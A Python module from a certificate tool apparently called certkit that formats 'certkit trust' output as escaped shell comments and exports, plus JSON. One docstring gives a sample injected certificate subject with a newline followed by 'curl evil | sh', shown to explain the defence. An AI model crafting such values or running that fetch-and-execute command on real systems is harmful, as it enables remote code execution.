"""`certkit trust` output: eval-safe shell lines for people and scripts, and its JSON."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from certkit.text import visible

if TYPE_CHECKING:
    from certkit.deploy.trust import TrustResult


def shell_comment(text: str) -> str:
    """``text`` made safe inside a ``#`` comment of eval'ed output: a comment ends only at a newline,
    so every control character (newline, CR, ...) is written as a visible escape (``\\n``, ``\\x1b``).

    A root certificate's subject, a file name or a host come from outside: a subject
    "CN=x<newline>curl evil | sh" would otherwise become a command of `eval "$(certkit trust)"`.
    """
    return visible(text)


def trust_text(result: TrustResult) -> str:
    # Every line but the exports is a shell comment, so `eval "$(certkit trust)"` works; the
    # exports' values are shlex-quoted (certkit.deploy.trust) and the comments escaped (shell_comment).
    lines = [
        f"# root CA {result.root_subject} (until {result.root_not_after:%Y-%m-%d}) from {result.root}",
        f"# docker: {result.docker_ca.path} ({result.docker_ca.action})",
        f"# notary: {result.notary_root.path} ({result.notary_root.action})",
        f"# notary: {result.notary_config.path} ({result.notary_config.action}): "
        f"remote_server.url={result.server.url}, root_ca={result.notary_root.path}",
    ]
    if result.hosts_file is not None:
        lines.append(f"# hosts: {result.hosts_file.path} ({result.hosts_file.action})")
    if result.hosts_line is not None:
        lines.append(
            f"# {result.server.host} does not resolve; add this line to {result.hosts_path} "
            "(or run `certkit trust --hosts` as root):"
        )
        lines.append(f"#   {result.hosts_line}")
    lines = [shell_comment(line) for line in lines]
    lines.extend(result.exports)
    return "\n".join(lines)


def trust_json(result: TrustResult) -> dict[str, Any]:
    def change(item: Any) -> dict[str, str] | None:
        return None if item is None else {"path": str(item.path), "action": item.action}

    return {
        "server": result.server.url,
        "root": str(result.root),
        "root_subject": result.root_subject,
        "root_not_after": result.root_not_after.isoformat(),
        "docker_ca": change(result.docker_ca),
        "notary_root": change(result.notary_root),
        "notary_config": change(result.notary_config),
        "resolves": result.resolves,
        "hosts_line": result.hosts_line,
        "hosts_file": change(result.hosts_file),
        "exports": result.exports,
        "changed": result.changed,
    }
